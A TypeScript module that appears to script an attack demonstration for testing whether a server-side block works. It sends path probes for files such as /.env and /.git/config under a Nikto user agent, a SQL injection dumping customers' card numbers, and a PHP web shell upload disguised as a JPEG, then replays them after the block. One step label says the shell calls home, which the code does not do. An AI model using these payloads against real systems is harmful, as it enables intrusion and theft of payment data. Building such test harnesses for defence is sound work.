import { setTimeout as sleep } from "node:timers/promises"
import type { Answer, Send } from "./clients.ts"

export interface AttackReport {
  /** When the first malicious request was sent. */
  readonly startedAt: number
  readonly requests: number
  readonly refused: number
  /** How many requests were tried again after the block. */
  readonly repeats: number
}

export interface AttackOptions {
  readonly send: (what: Send) => Promise<Answer>
  /** Where the planted shell calls home. */
  readonly home: string
  /** Between two steps, so that a person can follow. */
  readonly pauseMs: number
  readonly onStep: (step: string) => void
  /** Resolves when the attacker should try again what it could do before. */
  readonly untilBlocked: () => Promise<void>
}

const probes = [
  "/admin",
  "/wp-login.php",
  "/phpmyadmin/",
  "/.git/config",
  "/.env",
  "/backup.zip",
  "/server-status",
  "/console",
  "/api/v1/debug",
  "/old/",
  "/test.php",
  "/cgi-bin/status",
]

/** Scan → injection → web shell → call-home, then the same requests again, to see whether they still get through. */
export async function runAttack({ send, home, pauseMs, onStep, untilBlocked }: AttackOptions): Promise<AttackReport> {
  const startedAt = Date.now()
  let [requests, refused] = [0, 0]
  const step = async (what: Send) => {
    const answer = await send(what)
    requests++
    if (answer.refused) refused++
  }

  onStep("scan: a scanner asks for a dozen pages that are not there")
  for (const path of probes) await step({ path, headers: { "user-agent": "Nikto/2.5.0" } })
  await sleep(pauseMs)

  const injection: Send = { path: `/search?q=${encodeURIComponent("x' UNION SELECT name, card FROM customers-- ")}` }
  onStep("exploit: the search is made to list the customers' cards (SQL injection)")
  await step(injection)
  await sleep(pauseMs)

  onStep("install: a web shell is uploaded in place of a picture, and calls home by itself")
  await step(webShell(home))
  await untilBlocked()
  await sleep(pauseMs)

  onStep("again: every door that was open a moment ago is tried once more")
  const before = requests
  for (let round = 0; round < 5; round++)
    for (const what of [injection, { path: "/uploads/holiday.php?cmd=id" }, { path: "/" }, webShell(home)])
      await step(what)
  return { startedAt, requests, refused, repeats: requests - before }
}

function webShell(home: string): Send {
  const boundary = "----demo7d93b1"
  const body = [
    `--${boundary}`,
    'Content-Disposition: form-data; name="picture"; filename="holiday.php"',
    "Content-Type: image/jpeg",
    "",
    `<?php /* beacon=${home} */ system($_GET['cmd']); ?>`,
    `--${boundary}--`,
    "",
  ].join("\r\n")
  return {
    method: "POST",
    path: "/upload",
    headers: { "content-type": `multipart/form-data; boundary=${boundary}` },
    body,
  }
}
